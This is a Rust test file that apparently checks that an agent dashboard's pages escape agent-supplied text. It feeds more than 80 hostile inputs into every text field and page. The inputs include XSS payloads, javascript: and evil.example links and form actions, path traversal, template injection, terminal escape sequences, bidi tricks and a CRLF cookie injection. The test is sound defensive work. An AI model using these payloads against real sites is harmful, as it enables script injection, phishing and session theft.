//! Tests that texts of agents never become markup, a link, a script or a title: each text of a list
//! is put wherever an agent can put one, on every page that shows it.

use std::collections::BTreeSet;
use std::pin::pin;
use std::task::{Context, Poll, Waker};

use bytes::Bytes;
use http::{Request, StatusCode};
use overmind_api::Role;
use serde_json::{Value, json};

use crate::{Answer, Call, Fut, Incoming, Pass, Port, Refusal, Reply, SignIn, Visitor, answer};

const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href=\"https://evil.example\">here</a>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=x>",
    "<embed src=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<title>owned</title>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><h1>owned</h1>",
    "</td></tr></table><h1>owned</h1>",
    "</a></nav></main><h1>owned</h1>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><x/>",
    "<template><img src=x></template>",
    "<math><mtext><img src=x>",
    "<noscript><p title=\"</noscript><img src=x>\">",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x>",
    "` onload=`alert(1)",
    "\" autofocus onfocus=\"alert(1)\" x=\"",
    "\" formaction=\"https://evil.example",
    "\" href=\"javascript:alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://evil.example/x",
    "../../api/keys",
    "..%2f..%2fapi%2fkeys",
    "?csrf=1&next=//evil.example",
    "#main",
    "{{ frame.csrf }}",
    "{% include \"base.html\" %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&quot; onclick=&quot;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)",
    "[here](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "# owned\n\n<script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "{\"a\": \"</script><script>alert(1)</script>\"}",
    "diff --git a/x b/<script>alert(1)</script>",
    "@@ -1 +1 @@ <img src=x>",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]52;c;b3duZWQ=\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[H<b>owned</b>",
    "\u{9b}2J<b>owned</b>",
    "a\u{8}\u{8}\u{8}<b>b</b>",
    "\u{202e}gnp.exe<b>",
    "\u{2066}x\u{2069}<i>",
    "\u{0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<\u{200b}script>alert(1)",
    "\u{fe64}script\u{fe65}alert(1)",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "\u{feff}<script>alert(1)</script>",
    "\u{2028}<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
];

const PAGES: &[&str] = &[
    "/",
    "/runs",
    "/runs/ses_x",
    "/runs/ses_x/changes",
    "/runs/ses_x/terminal",
    "/runs/ses_x/artifacts",
    "/runs/ses_x/log",
    "/runs/ses_x/replay",
    "/runs/ses_x/replay?with=ses_y",
    "/agents",
    "/agents/new",
    "/agents/x",
    "/runs/new",
    "/resources",
    "/resources/session",
    "/resources/session/x",
    "/resources/fleet/x",
    "/costs",
    "/memory",
    "/memory?q=x",
    "/board",
    "/board?of=x&agent=x&verb=read&object=x",
    "/board?history=x",
    "/settings",
    "/settings/policy",
    "POST /settings/policy",
    "POST /settings/verify",
    "/settings/tools",
    "/settings/models",
    "/settings/keys",
];

/// A server that returns the same text in every text field.
struct Says<'a>(&'a str);

const AT: &str = "2026-11-25T16:00:00+00:00";

fn id(kind: &str) -> String {
    format!("{kind}_00000000000000000000000000000001")
}

impl Says<'_> {
    fn run(&self, status: &str) -> Value {
        let said = self.0;
        let usage = json!({"input_tokens": 9, "output_tokens": 1, "cached_input_tokens": 0,
            "cache_write_tokens": 0, "reasoning_tokens": 0});
        let room = json!({"phase": "kept", "directory": said, "worktree": said, "branch": said,
                "base": said, "commit": said, "parked": false, "kept": said, "undecided": true,
                "ports": {}, "urls": {said: said}, "sandbox": null, "error": said,
                "warnings": [said], "leaks": [], "done": {"action": "keep", "by": said, "at": AT,
                    "said": said, "branch": said, "commit": null, "kept": null, "warnings": []}});
        let mut run = json!({"id": id("ses"), "name": said, "parent_id": null, "agent_id": id("agt"),
            "agent_name": said, "task": said, "status": status, "step_limit": 0, "created_at": AT,
            "started_at": AT, "finished_at": null, "agent_version": 1, "epoch": 2, "hive": null,
            "prompt": said, "approval_id": null, "final_answer": said,
            "error": {"code": "x", "message": said}, "usage": usage, "cost_usd": 0.5, "step_count": 1,
            "alarms": 0, "model_call_count": 1, "sandbox": "none", "workspace": said,
            "forked_from": null, "created_by": said, "colony": id("col")});
        run["room"] = room;
        run["process"] = json!({"life": 1, "pid": 7, "restarts": 0, "exit_code": null,
            "signal": null, "restart_at": null, "conversation": said});
        run
    }

    fn event(&self, seq: u64, kind: &str) -> Value {
        let said = self.0;
        json!({"id": format!("{}.{seq}", id("ses")), "run_id": id("ses"), "type": kind, "ts": AT,
            "payload_json": {"text": said, "message": said, "by": said, "tool_name": said,
                "args": {said: said}, "reason": said, "prompt": said, "error": said},
            "seq": seq, "global": seq, "hash": "a5".repeat(32)})
    }

    fn status(&self) -> Value {
        let said = self.0;
        let store = json!({"events": 1, "streams": 1, "runs": [], "agents": 1, "memory_items": 1,
            "bytes": 1, "schema": 1, "last_checkpoint": 1, "location": said});
        json!({"version": said, "started_at": AT, "now": AT,
            "ready": {"ok": false, "state": said, "reason": said}, "running": 1, "queued": 1,
            "capacity": 1, "store": store, "answers": [said], "tools": [said],
            "policy": {"source": "file", "file": said, "version": said, "refused": said}})
    }

    fn remembered(&self) -> Value {
        let said = self.0;
        json!({"id": id("mem"), "collection": said, "text": said, "embedding": [],
            "embedding_model": said, "dims": 0, "metadata_json": {}, "created_at": AT,
            "source_run_id": id("ses"), "colony": id("col"), "author": said, "trust": said,
            "source_event": said, "score": 0.5})
    }

    fn step(&self) -> Value {
        let said = self.0;
        json!({"id": id("stp"), "run_id": id("ses"), "idx": 0, "type": "tool", "turn": 0,
            "input_json": {"tool_name": said, said: said}, "output_json": {said: [said]},
            "started_at": AT, "finished_at": AT, "error": said})
    }

    fn agent(&self, role: &str) -> Value {
        let said = self.0;
        json!({"id": id("agt"), "name": said, "role": role, "model": said,
                "tools_allowed": [said], "status": "active", "created_at": AT, "updated_at": AT,
                "version": 1, "policy": "auto", "sandbox": "none", "limits": {},
                "on_unknown": "ask", "approvals": [], "reasoning_effort": null,
                "max_output_tokens": null, "colony": id("col")})
    }

    /// Returns the API's answer; `None` if the object does not exist.
    fn body(&self, path: &str, query: &str) -> Option<Value> {
        let said = self.0;
        let resource = json!({"apiVersion": "overmind/v1", "kind": "Session",
            "metadata": {"name": said, "colony": "default", "uid": id("ses"), "generation": 1,
                "labels": {said: said}, "annotations": {said: said}, "creationTimestamp": AT},
            "spec": {"task": said, said: said}, "status": {"phase": said, "conditions": [
                {"type": said, "status": "True", "reason": said, "message": said}]}});
        let line: String = said.chars().map(|c| if c == '\n' { ' ' } else { c }).collect();
        let usage = json!({"calls": 1, "microusd": 5, "unpriced_calls": 1, "input_tokens": 1,
            "output_tokens": 1, "cached_input_tokens": 0, "cache_write_tokens": 0,
            "reasoning_tokens": 0});
        Some(match path {
            "/api/inbox" => Value::Array(vec![json!({"id": id("inb"), "kind": "approval",
                "state": "open", "title": said, "risk": said, "run_id": id("ses"),
                "approval_id": null, "agent_id": null, "agent": said, "epoch": 1, "group": null,
                "asked_at": AT, "expires_at": null, "answered_at": null, "answered_by": null,
                "answer": null, "changed": 1, "details": {"tool_name": said, "args": {said: said},
                    "reason": said, "prompt": said, "actions": [{"program": said,
                        "touches": [{"kind": said, "target": said}]}]}})]),
            "/api/runs" if query.contains("status=succeeded") => json!([self.run("failed")]),
            "/api/runs" => json!([self.run("idle"), self.run("running")]),
            "/api/runs/ses_x" | "/api/runs/ses_y" => self.run("idle"),
            "/api/agents" => json!([self.agent(said)]),
            "/api/agents/x" => self.agent(said),
            "/api/agents/x/versions" => json!([self.agent(said), self.agent("before")]),
            "/api/kinds" => Value::Array(
                ["session", "fleet"]
                    .map(|name| {
                        json!({"name": name, "plural": said, "aliases": [said],
                    "kind": said, "apiVersion": said, "schema": {}, "changedBy": said})
                    })
                    .into(),
            ),
            "/api/resources/fleet/x" => {
                let mut fleet = resource;
                fleet["status"]["conditions"] = json!([{"type": "Waiting", "status": "True",
                    "reason": said, "message": said}]);
                fleet
            }
            "/api/resources/pack" => {
                let mut pack = resource;
                pack["spec"] = json!({"revision": 1, "template": {"agent": said, "task": said}});
                json!([pack])
            }
            "/api/resources/session" => json!([resource]),
            path if path.starts_with("/api/resources/session/") => match path {
                path if path.ends_with("/owned") => {
                    json!([{"kind": said, "name": said, "uid": said,
                    "phase": said, "creationTimestamp": AT}])
                }
                path if path.ends_with("/events") => json!([self.event(1, said)]),
                _ => resource,
            },
            "/api/costs" => {
                let mut cost = usage;
                cost["key"] = json!(said);
                json!([cost])
            }
            "/api/memory" => json!([self.remembered()]),
            "/api/memory/search" => json!({"ok": true, "results": [self.remembered()]}),
            "/mesh/blackboard" => json!([{"key": said, "value": {said: said}, "written_by": said,
                "workflow_id": null, "created_at": AT, "updated_at": AT, "ttl": null, "version": 1}]),
            path if path.starts_with("/mesh/history/") => json!({"key": said, "truncated": true,
                "changes": [{"version": 1, "change": said, "by": said, "run_id": null,
                    "bytes": 1, "at": AT}, {"version": 1, "change": "put", "by": said,
                    "run_id": id("ses"), "bytes": null, "at": AT}]}),
            "/mesh/agents" => json!([{"id": id("agt"), "name": said, "capabilities": [said],
                "registered": true, "waiting": 1}]),
            "/mesh/subscriptions" => json!([{"id": id("sub"), "agent_id": id("agt"),
                "topic": said, "created_at": AT, "created_by": said}]),
            "/mesh/messages" => json!([{"id": id("msg"), "from_agent": said, "to": id("agt"),
                "type": said, "topic": said, "payload": said, "workflow_id": null,
                "reply_to": null, "priority": "normal", "timestamp": AT, "expires_at": null,
                "state": "dead", "why_dead": said, "attempt": 2, "visible_at": AT}]),
            "/mesh/can" => json!({"allowed": false, "agent": said, "verb": said, "object": said,
                "rule": said, "ask_for": said}),
            "/api/status" => self.status(),
            "/api/loops" => json!([{"name": said, "state": "failing", "every_ms": 1, "passes": 1,
                "errors": 1, "last": {"began_at": AT, "took_ms": 1, "ok": false, "said": said}}]),
            "/api/rooms/leaks" => json!({"leaks": [{"kind": said, "what": said, "session": said,
                "how": said, "fixable": true, "bytes": 1}]}),
            "/api/vault" => json!({"locked": said, "protection": said, "secrets": 1, "damaged": 1}),
            "/api/vault/secrets" => json!([{"name": said, "version": 1, "versions": [1],
                "created_at": AT, "created_by": said, "uses": 1, "last_used_at": AT,
                "problem": said}]),
            path if path.starts_with("/api/settings/") && path.ends_with("-key") => {
                json!({"ok": true, "configured": true, "masked": format!("a...{said}"), "source": said})
            }
            "/api/settings/mcp/servers" => json!({"ok": true, "servers": [{"id": said,
                "state": said, "command": said, "args": [said], "reason": said,
                "needs_approval": true, "config": {}, "tools": [{"name": said, "state": "changed",
                    "description": said, "hash": said, "diff": said}]}]}),
            "/api/policy/explain" => {
                let action = json!({"program": said, "args": [said], "via": [said],
                    "decision": said, "touches": [{"kind": said, "target": said}]});
                json!({"decision": said, "reason": said, "advice": said, "risk": said,
                    "rule": {"id": said, "place": said}, "policy": said, "tool": said,
                    "agent": said, "sandbox": "namespace", "files": [said], "actions": [action]})
            }
            "/api/audit/verify" => json!({"ok": false, "events": 1, "streams": 1, "checkpoints": 1,
                "unsigned_tail": 1, "key": said,
                "findings": [{"kind": said, "stream": said, "seq": 1, "message": said}]}),
            "/api/keys" => json!([{"id": format!("key_{:032x}", 1), "name": said, "role": "viewer",
                "created_at": AT, "revoked_at": null, "colony": id("col")}]),
            "/api/budgets" => json!([]),
            "/api/halt" => json!({"halted": true, "by": said, "reason": said, "since": AT,
                "canceled_runs": 0}),
            "/api/diff" => json!({"a": self.run("idle"), "b": self.run("idle"), "common": 0,
                "rows": [{"idx": 0, "a": self.step(), "b": null, "same": false}]}),
            path if path.ends_with("/work") => json!({"branch": said, "base": said, "files": 1,
                "insertions": 1, "deletions": 1, "commits": 1, "truncated": true,
                "diff": format!("diff --git a/{line} b/{line}\n--- a/{line}\n+++ b/{line}\n\
                    @@ -1,2 +1,2 @@ {line}\n-{line}\n+{line}{line}\n {line}\n"),
                "runs_later": [{"path": said, "why": said}]}),
            path if path.ends_with("/artifacts") => json!([{"run_id": id("ses"), "name": said,
                "version": 1, "size": 9, "media_type": said, "blake3": said, "text": true,
                "masked": true, "author": said, "created_at": AT, "updated_at": AT}]),
            path if path.ends_with("/events") && query.contains("limit=1&") => json!([]),
            path if path.ends_with("/events") => {
                json!([self.event(1, said), self.event(2, "agent.said")])
            }
            path if path.ends_with("/steps") => json!([self.step()]),
            _ => return None,
        })
    }

    fn timeline(&self) -> String {
        let kinds =
            ["agent.said", "run.awaiting_input", "approval.requested", "agent.error", "run.failed"];
        let events = kinds.iter().zip(1..).map(|(kind, seq)| {
            let item = json!({"kind": "event", "ts": AT, "data": self.event(seq, kind)});
            format!("id: {seq}.0\ndata: {item}\n\n")
        });
        events.collect()
    }
}

impl Port for Says<'_> {
    fn visitor<'a>(&'a self, _: &'a str) -> Fut<'a, Result<Visitor, Refusal>> {
        Box::pin(async { Ok(Visitor { name: self.0.to_owned(), role: Role::Admin }) })
    }

    fn invited<'a>(&'a self, _: &'a str) -> Fut<'a, Result<Visitor, Refusal>> {
        Box::pin(async { Ok(Visitor { name: self.0.to_owned(), role: Role::Admin }) })
    }

    fn sign_in<'a>(&'a self, _: SignIn<'a>) -> Fut<'a, Result<Pass, Refusal>> {
        Box::pin(async { Ok(Pass { secret: String::new(), seconds: 0 }) })
    }

    fn sign_out<'a>(&'a self, _: &'a str) -> Fut<'a, Result<(), Refusal>> {
        Box::pin(async { Ok(()) })
    }

    fn call<'a>(&'a self, _: &'a str, call: Call) -> Fut<'a, Reply> {
        let (path, query) = call.target.split_once('?').unwrap_or((&call.target, ""));
        let body = match path {
            path if path.ends_with("/replay") => Some(self.timeline()),
            path if path.ends_with("/log") => Some(self.0.to_owned()),
            path => self.body(path, query).map(|body| body.to_string()),
        };
        let status = if body.is_some() { StatusCode::OK } else { StatusCode::NOT_FOUND };
        let body = Bytes::from(body.unwrap_or_default());
        Box::pin(async move { Reply { status, link: None, body } })
    }
}

fn page(says: &str, path: &str) -> (StatusCode, String) {
    // The answer of a form is a page as well.
    let (request, path) = match path.strip_prefix("POST ") {
        Some(path) => (Request::post(path), path),
        None => (Request::get(path), path),
    };
    let body = format!("csrf={}&command=x&name=x&role=viewer", crate::form::csrf("ovk_1.9"));
    let request = request.header("host", "localhost:1");
    let request = request.header("cookie", "overmind-1=ovk_1.9").body(()).unwrap();
    let (parts, ()) = request.into_parts();
    let port = Says(says);
    let incoming = Incoming { parts: &parts, body: body.into(), secure: false };
    // The port answers at once, so the page does.
    let done = pin!(answer(&port, incoming)).poll(&mut Context::from_waker(Waker::noop()));
    let Poll::Ready(Answer::Page(page)) = done else { panic!("{path} is no page") };
    (page.status(), String::from_utf8(page.body().to_vec()).unwrap())
}

/// Returns each tag with the names of its attributes, and every link.
fn markup(page: &str) -> (BTreeSet<String>, Vec<String>) {
    let (mut tags, mut links) = (BTreeSet::new(), Vec::new());
    for part in page.split('<').skip(1) {
        let (tag, _) = part.split_once('>').expect("every tag ends");
        let mut shape = String::new();
        for (n, piece) in tag.split('"').enumerate() {
            match n % 2 {
                0 => shape.push_str(piece),
                _ if shape.ends_with("href=") || shape.ends_with("action=") => {
                    links.push(piece.to_owned());
                }
                // Classes and states of ours.
                _ => {}
            }
        }
        tags.insert(shape);
    }
    (tags, links)
}

#[test]
fn no_text_of_an_agent_becomes_markup_a_link_a_script_or_a_title() {
    assert!(TEXTS.len() >= 60);
    for path in PAGES {
        let (status, plain) = page("plain", path);
        assert_eq!(status, StatusCode::OK, "{path}: {plain}");
        assert!(plain.matches("plain").count() > 1, "{path} shows nothing of it");
        // If a text is empty after cleaning, parts of the page are missing.
        let (known, _) = markup(&plain);
        for text in TEXTS {
            let (status, page) = page(text, path);
            assert_eq!(status, StatusCode::OK, "{path} with {text:?}");
            let (tags, links) = markup(&page);
            let new: Vec<_> = tags.difference(&known).filter(|tag| !ours(tag, &known)).collect();
            assert!(new.is_empty(), "{path} with {text:?}: {new:?}");
            for link in links {
                let own = link == "#main" || link.starts_with('/') && !link.starts_with("//");
                let path_of = link.split('?').next().unwrap_or_default();
                assert!(own && !path_of.contains("/../") && !link.contains('\\'), "{path}: {link}");
            }
            // Two of ours, and that of the terminal.
            let scripts = if path.ends_with("/terminal") { 3 } else { 2 };
            assert_eq!(page.matches("<script").count(), scripts, "{path} with {text:?}");
            assert_eq!(page.matches("<title>").count(), 1, "{path} with {text:?}");
            let bare = |c: char| c.is_control() && c != '\n' && c != '\t';
            assert_eq!(page.find(bare), None, "{path} with {text:?}");
            let turned = ['\u{202e}', '\u{2066}', '\u{2028}'];
            assert_eq!(page.find(turned), None, "{path} with {text:?}");
        }
    }
}

/// Returns whether a tag is known, apart from an attribute such as `open`.
fn ours(tag: &str, known: &BTreeSet<String>) -> bool {
    known.contains(tag.trim_end_matches(" open")) || known.contains(&format!("{tag} open"))
}
